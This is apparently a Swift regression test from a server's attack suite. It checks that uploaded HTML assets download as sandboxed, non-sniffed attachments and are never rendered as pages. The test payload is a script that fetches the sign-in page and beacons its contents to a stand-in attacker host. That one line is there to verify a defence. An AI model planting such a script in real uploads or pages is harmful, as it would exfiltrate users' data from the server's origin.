import Foundation
import StratusServer
import StratusTesting
import StratusWire
import Testing

extension AttackSuite {
    /// Finding 18 (assets): an uploaded HTML or script file must not run as a page of the server's
    /// origin (which serves the sign-in page) when its download URL is opened in a browser.
    @Suite("18 asset downloads rendered as pages") struct AssetDownloadHeaderAttacks {
        @Test func anUploadedHTMLPageDownloadsAsAnAttachmentThatNoBrowserSniffsOrRuns() async throws {
            try await withAuthServer { server in
                let attacker = try await server.signedInUser("mallory@example.com")
                let page = "<html><script>fetch('/signin').then(r => r.text()).then(t => navigator.sendBeacon('//evil.example', t))</script></html>"
                let request = #"{"tokens":[{"recordName":"page","recordType":"Photo","fieldName":"image"}]}"#
                let upload = try await server.exchange("assets/upload", request, query: attacker.query)
                let urlText = try #require(upload.json["tokens"]?[0]?["url"]?.stringValue, "\(upload.text)")
                let url = try #require(URL(string: urlText))
                let posted = try await server.exchange(url.path, body: Data(page.utf8))
                let asset = try #require(posted.json["singleFile"], "\(posted.text)")
                let save =
                    #"{"operations":[{"operationType":"create","record":{"recordName":"page","recordType":"Photo","fields":{"image":{"value":\#(try asset.serializedString()),"type":"ASSETID"}}}}]}"#
                #expect(try await server.exchange("records/modify", save, query: attacker.query).itemCodes() == [nil])
                let fetched = try await server.exchange("records/lookup", #"{"records":[{"recordName":"page"}]}"#, query: attacker.query)
                let link = try #require(fetched.json["records"]?[0]?["fields"]?["image"]?["value"]?["downloadURL"]?.stringValue)
                let download = try #require(URL(string: link.replacingOccurrences(of: "${f}", with: "index.html")))

                let served = try await server.exchange(download.path, method: "GET")
                #expect(served.status == 200)
                #expect(served.text == page)
                #expect(served.headers["content-type"] == "application/octet-stream")
                #expect(served.headers["x-content-type-options"] == "nosniff")
                #expect(served.headers["content-disposition"]?.hasPrefix("attachment") == true)
                #expect(served.headers["content-security-policy"]?.contains("sandbox") == true)
                // A range of it too.
                let partial = try await server.exchange(download.path, method: "GET", headers: ["Range": "bytes=0-5"])
                #expect(partial.status == 206)
                #expect(partial.headers["x-content-type-options"] == "nosniff")
            }
        }
    }
}
